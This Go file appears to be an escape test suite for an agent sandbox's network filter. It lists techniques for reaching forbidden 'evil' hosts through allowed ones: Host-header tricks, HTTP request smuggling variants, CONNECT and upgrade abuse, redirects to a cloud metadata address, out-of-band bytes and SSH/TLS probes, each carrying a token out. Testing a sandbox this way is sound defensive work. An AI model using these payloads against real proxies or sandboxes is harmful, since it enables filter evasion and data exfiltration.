//go:build linux && escape

package main

import (
	"bufio"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
)

// overHTTP returns the techniques that talk to an allowed server and address a forbidden
// one behind it.
func overHTTP() map[string]func(*attempt) {
	type server struct {
		name string
		port int
	}
	// sent sends parts to servers as one conversation. $T is the token, $A the name
	// that was dialled, $E the forbidden one; lengths fills in the rest.
	sent := func(servers []server, replies int, parts []string) func(*attempt) {
		return func(a *attempt) {
			for _, at := range servers {
				host := at.name
				if at.port != 80 {
					host = fmt.Sprintf("%s:%d", at.name, at.port)
				}
				fill := strings.NewReplacer("$T", a.token, "$A", host, "$E", plan.EvilCDN)
				said := make([]string, len(parts))
				for i, p := range parts {
					said[i] = lengths(fill.Replace(p))
				}
				a.converse(at.name, at.port, replies, said...)
			}
		}
	}
	// web are two servers that disagree about framing; all adds one on a port that a
	// rule opened.
	web := []server{{plan.Allowed, 80}, {plan.Allowed2, 80}}
	all := append(slices.Clone(web), server{plan.Alt, plan.AltHTTP})
	parts := func(replies int, parts ...string) func(*attempt) { return sent(all, replies, parts) }
	first := "GET /first HTTP/1.1\r\nHost: $A\r\n\r\n"
	evil := "GET /$T HTTP/1.1\r\nHost: $E\r\n\r\n"
	return map[string]func(*attempt){
		"http-host":      parts(1, evil),
		"http-second":    parts(2, first, evil),
		"http-pipeline":  parts(2, first+evil),
		"http-absolute":  parts(1, "GET http://$E/$T HTTP/1.1\r\nHost: $A\r\n\r\n"),
		"http-absolute2": parts(1, "GET http://$A/$T HTTP/1.1\r\nHost: $E\r\n\r\n"),
		"http-10":        parts(1, "GET http://$E/$T HTTP/1.0\r\n\r\n", ""),
		"http-nohost":    parts(1, "GET /$T HTTP/1.0\r\n\r\n"),
		"http-09":        sent(web, 1, []string{"GET /$T\r\n\r\n", evil}),
		"http-twohosts":  parts(1, "GET /$T HTTP/1.1\r\nHost: $A\r\nHost: $E\r\n\r\n"),
		"http-fold":      parts(1, "GET /$T HTTP/1.1\r\nHost: $A\r\nX-A: b\r\n Host: $E\r\nHost:\r\n $E\r\n\r\n"),
		"http-space":     parts(1, "GET /$T HTTP/1.1\r\nHost : $E\r\nHost: $A\r\n\r\n"),
		"http-odd-host": func(a *attempt) {
			for _, host := range []string{"$E#$A", "$A@$E", "$E:80@$A", "$A:80:$E", "$A, $E", "$E,$A", "$A\x00.$E", "$A\t$E", "$A/$E", "[$A]$E", "$E\x0b"} {
				parts(1, "GET /$T HTTP/1.1\r\nHost: "+host+"\r\n\r\n")(a)
			}
		},
		"http-barelf":   parts(1, "GET /$T HTTP/1.1\nHost: $A\nX: y\rHost: $E\n\n", "GET /$T HTTP/1.1\r\nHost: $A\r\nX: y\nHost: $E\r\n\r\n"),
		"http-forward":  parts(1, "GET /$T HTTP/1.1\r\nHost: $E\r\nX-Forwarded-Host: $A\r\nForwarded: host=$A\r\n\r\n"),
		"http-leading":  parts(1, "\r\n\r\n\n"+evil),
		"http-garbage":  sent(web, 1, []string{"hello\r\n" + evil}),
		"http-lower":    parts(1, "get /$T http/1.1\r\nhost: $E\r\n\r\n"),
		"http-method":   parts(1, "XYZZY /$T HTTP/1.1\r\nHost: $E\r\n\r\n"),
		"http-version":  parts(1, "GET /$T HTTP/1.2\r\nHost: $E\r\n\r\n", ""),
		"http-connect":  parts(1, "CONNECT $E:443 HTTP/1.1\r\nHost: $E:443\r\n\r\n", evil),
		"http-connect2": parts(1, "CONNECT $A HTTP/1.1\r\nHost: $A\r\n\r\n", evil),
		"http-upgrade":  parts(2, "GET /no-upgrade HTTP/1.1\r\nHost: $A\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", evil),
		"http-h2c":      parts(2, "GET /no-upgrade HTTP/1.1\r\nHost: $A\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", evil),
		"http-prior":    parts(1, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", evil),
		"http-tls":      parts(2, "OPTIONS * HTTP/1.1\r\nHost: $A\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n", evil),
		"http-expect":   parts(1, "POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n", "12345"+evil),
		"smuggle-clte":  parts(2, "POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding: chunked\r\n\r\n"+"0\r\n\r\n"+evil),
		"smuggle-tecl": parts(2, "POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"+
			"$C\r\nGET /$T HTTP/1.1\r\nHost: $E\r\nX: y\r\n0\r\n\r\n"),
		"smuggle-tete": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding: xchunked\r\n\r\n"+"0\r\n\r\n"+evil),
		"smuggle-tespace": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding : chunked\r\n\r\n"+"0\r\n\r\n"+evil),
		"smuggle-tetab": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding:\x0bchunked\r\n\r\n"+"0\r\n\r\n"+evil),
		"smuggle-telist": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding: identity, chunked\r\n\r\n"+"0\r\n\r\n"+evil),
		"smuggle-tefold": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding:\r\n chunked\r\n\r\n"+"0\r\n\r\n"+evil),
		"smuggle-clcl": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 0\r\nContent-Length: $L\r\n\r\n"+evil),
		"smuggle-clplus": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: +$L\r\n\r\n"+evil),
		"smuggle-cl0": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 0, $L\r\n\r\n"+evil),
		"smuggle-chunk": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nTransfer-Encoding: chunked\r\n\r\n0;x=\n\r\n"+evil+"0\r\n\r\n"+evil),
		"smuggle-trailer": parts(2,
			"POST /first HTTP/1.1\r\nHost: $A\r\nTransfer-Encoding: chunked\r\nTrailer: Host\r\n\r\n0\r\nHost: $E\r\n\r\n"+evil),
		"smuggle-target": parts(1, "GET /a HTTP/1.1\r\rHost: $E\r\n\r\n", "GET /$T%0d%0aHost:%20$E HTTP/1.1\r\nHost: $E\r\n\r\n"),
		"http-urgent":    urgent,
		"http-slow":      slow,
		"http-redirect": func(a *attempt) {
			a.fetch("http://" + plan.Allowed + "/redirect?to=http://" + plan.EvilName + "/" + a.token)
			a.fetch("http://" + plan.Allowed + "/redirect?to=http://" + plan.Evil + "/" + a.token)
			a.fetch("http://" + plan.Allowed + "/redirect?to=http://169.254.169.254/" + a.token)
		},
	}
}

// lengths fills in $L, the length of a request's body, and $C, that of its first
// chunk.
func lengths(request string) string {
	head, body, _ := strings.Cut(request, "\r\n\r\n")
	if before, rest, ok := strings.Cut(body, "$C\r\n"); ok {
		chunk, _, _ := strings.Cut(rest, "\r\n0\r\n\r\n")
		body = fmt.Sprintf("%s%x\r\n%s", before, len(chunk), rest)
	}
	return strings.ReplaceAll(head, "$L", strconv.Itoa(len(body))) + "\r\n\r\n" + body
}

// converse sends one part after the other, each after the last was answered. It reads
// as many replies as a deceived server would give.
func (a *attempt) converse(name string, port, replies int, parts ...string) {
	c, err := a.connect(name, port)
	if err != nil {
		say("http %s: %v", name, err)
		return
	}
	defer c.Close()
	r := bufio.NewReader(c)
	_ = c.SetDeadline(time.Now().Add(answerTime)) // the reads report an error
	for _, part := range parts {
		if _, err := io.WriteString(c, part); err != nil {
			say("http %s: write: %v", name, err)
			return
		}
		if replies > 1 && len(parts) > 1 {
			if !reply(r) {
				return
			}
			replies--
		}
	}
	for range replies {
		if !reply(r) {
			return
		}
	}
}

func reply(r *bufio.Reader) bool {
	resp, err := http.ReadResponse(r, nil)
	if err != nil {
		say("http: %v", err)
		return false
	}
	defer resp.Body.Close()
	if resp.StatusCode/100 == 1 {
		say("http: %s", resp.Status)
		return true
	}
	b, err := io.ReadAll(io.LimitReader(resp.Body, 512))
	say("http: %s %q %v", resp.Status, b, err)
	return err == nil
}

// urgent sends the forbidden name with out-of-band bytes in it: some stacks remove
// them from the stream, some keep them.
func urgent(a *attempt) {
	c, err := a.connect(plan.Allowed, 80)
	if err != nil {
		say("http: %v", err)
		return
	}
	defer c.Close()
	raw, err := c.SyscallConn()
	if err != nil {
		say("http: %v", err)
		return
	}
	oob := func(b string) {
		if err := raw.Write(func(fd uintptr) bool {
			err := syscall.Sendto(int(fd), []byte(b), syscall.MSG_OOB, nil)
			if err != nil {
				say("urgent: %v", err)
			}
			return true
		}); err != nil {
			say("urgent: %v", err)
		}
	}
	say("http: %v", func() error {
		_, err := io.WriteString(c, "GET /"+a.token+" HTTP/1.1\r\nHost: "+plan.EvilCDN)
		return err
	}())
	oob("\r")
	say("http: %v", func() error { _, err := io.WriteString(c, "\r\nX: y\r\n"); return err }())
	oob("\n")
	say("http: %v", func() error { _, err := io.WriteString(c, "\r\n\r\n"); return err }())
	say("http: %s", answer(c))
}

// slow sends a request with each byte in its own segment.
func slow(a *attempt) {
	c, err := a.connect(plan.Allowed, 80)
	if err != nil {
		say("http: %v", err)
		return
	}
	defer c.Close()
	_, err = dribble{c}.Write([]byte(a.get(plan.EvilCDN)))
	say("http: %s %v", answer(c), err)
}

// overSSH returns the techniques that use port 22.
func overSSH() map[string]func(*attempt) {
	ssh := "SSH-2.0-client\r\n"
	return map[string]func(*attempt){
		"ssh-ip": func(a *attempt) { a.send(plan.Evil, 22, ssh+a.token+"\r\n") },
		"ssh-shared": func(a *attempt) {
			a.send(a.token+"."+plan.EvilSSH, 22, ssh+a.token+"\r\n")
			a.send(plan.CDN, 22, ssh+a.token+"\r\n")
		},
		"ssh-not": func(a *attempt) { a.send(plan.AllowedSSH, 22, a.get(plan.AllowedSSH)) },
		"ssh-tls": func(a *attempt) {
			a.send(plan.AllowedSSH, 22, string(clientHello{names: []string{a.token + "." + plan.EvilSSH}}.record()))
		},
		"ssh-one":    func(a *attempt) { a.send(plan.AllowedSSH, 22, "SSH-1.5-client "+a.token+"\r\n") },
		"ssh-before": func(a *attempt) { a.send(plan.AllowedSSH, 22, a.token+"\r\n"+ssh) },
	}
}
